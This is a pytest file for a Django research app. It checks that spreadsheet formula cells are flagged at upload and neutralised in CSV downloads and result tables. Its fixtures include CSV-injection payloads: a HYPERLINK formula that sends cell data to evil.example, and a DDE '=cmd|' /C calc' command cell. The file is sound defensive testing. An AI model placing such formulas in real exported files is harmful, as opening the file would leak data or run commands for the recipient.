"""Cells a spreadsheet would run as formulas: warned about at upload, inert in downloads and result tables."""

import csv
import io
import json

import pandas as pd
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from research import publishing, spreadsheet
from research.models import DatasetVersion
from research.recording import Recorder

HOSTILE_CTDC = (
    b"yearOfRegistration,gender,citizenship,traffickMonths\n"
    b'2019,"=HYPERLINK(""http://evil.example/?""&A1,""help"")",US,-99\n'
    b"2020,Female,@SUM(1+1),12\n"
    b"2021,Male,\tcmd,-3\n"
    b"2021,+Male,-UA,-99\n"
)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+Male", "'+Male"),
        ("-UA", "'-UA"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-99", "-99"),
        ("-3.5", "-3.5"),
        ("+12", "+12"),
        ("1,234", "1,234"),
        ("<5", "<5"),
        ("Female", "Female"),
        (7, 7),
    ],
)
def test_formula_like_cells_become_text_and_numbers_stay_numbers(cell, shown):
    assert spreadsheet.safe_cell(cell) == shown


@pytest.mark.django_db
def test_an_upload_with_formula_cells_is_warned_about_and_downloads_inert(role_user, client_for):
    client = client_for(role_user("researcher"))
    response = client.post(
        reverse("research:dataset_upload"),
        {
            "name": "ctdc-hostile",
            "schema_name": "ctdc",
            "source": "Test",
            "licence": "Test only",
            "sensitive": "on",
            "file": SimpleUploadedFile("hostile.csv", HOSTILE_CTDC),
        },
    )
    assert response.status_code == 302
    version = DatasetVersion.objects.get()
    assert version.status == DatasetVersion.Status.VALID, version.errors
    warning = next(w for w in version.warnings if "formulas" in w)
    assert "'gender' (2)" in warning and "'citizenship' (3)" in warning and "traffickMonths" not in warning
    assert "start with =, +, - or @" in client.get(response["Location"]).content.decode()

    download = client.get(reverse("research:dataset_download", args=["ctdc-hostile", 1]))
    assert download.status_code == 200 and download["Cache-Control"] == "private, no-store"
    rows = list(csv.reader(io.StringIO(b"".join(download.streaming_content).decode())))
    assert rows[1] == ["2019", '\'=HYPERLINK("http://evil.example/?"&A1,"help")', "US", "-99"]
    assert rows[2][2] == "'@SUM(1+1)" and rows[3][2] == "'\tcmd" and rows[3][3] == "-3"
    assert rows[4] == ["2021", "'+Male", "'-UA", "-99"]
    # The stored file is the upload itself: its hash and what notebooks read do not change.
    with version.file.open("rb") as handle:
        assert handle.read() == HOSTILE_CTDC


def test_result_tables_never_carry_a_formula_in_a_header_or_label(tmp_path):
    rec = Recorder(tmp_path, sensitive=False)
    frame = pd.DataFrame(
        {"=cmd|' /C calc'!A0": [12, 30], "@total": [7, 9]}, index=pd.Index(["+x", "-2"], name="-y")
    )
    rec.table("hostile", frame, "A table whose labels came from the data.")
    stats = pd.DataFrame({"group": ["=a", "b"], "n": [8, 9], "change": [-2.5, 1.0]})
    rec.table("changes", stats, "Changes.", counts=["n"])
    results = json.loads((tmp_path / "results.json").read_text())
    hostile = results["tables"][0]
    assert hostile["columns"] == ["'-y", "'=cmd|' /C calc'!A0", "'@total"]
    assert [row[0] for row in hostile["rows"]] == ["'+x", "-2"]
    assert hostile["count_columns"] == ["'=cmd|' /C calc'!A0", "'@total"]
    changes = results["tables"][1]
    assert changes["rows"] == [["'=a", "8", "-2.5"], ["b", "9", "1"]]


def test_brief_tables_neutralise_results_recorded_before(tmp_path):
    table = publishing._table(["=year", "victims"], [["@2019", "-99"], ["2020", "12"]])
    assert table["data"] == [["'=year", "victims"], ["'@2019", "-99"], ["2020", "12"]]
